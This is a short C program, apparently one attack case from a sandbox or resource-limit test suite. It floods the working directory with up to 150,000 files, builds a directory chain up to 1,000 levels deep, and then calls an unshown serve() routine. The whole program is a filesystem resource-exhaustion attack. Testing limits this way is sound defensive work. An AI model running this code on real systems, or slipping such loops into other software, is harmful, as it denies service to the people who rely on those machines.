#include "attack.h"


int main(void)
{
    char name[32];

    for (int i = 0; i < 150000; ++i) {
        snprintf(name, sizeof name, "file-%d", i);
        int file = open(name, O_WRONLY | O_CREAT, 0600);
        if (file < 0)
            break;
        close(file);
    }
    for (int i = 0; i < 1000 && mkdir("deep", 0700) == 0 && chdir("deep") == 0; ++i)
        ;
    serve();
}
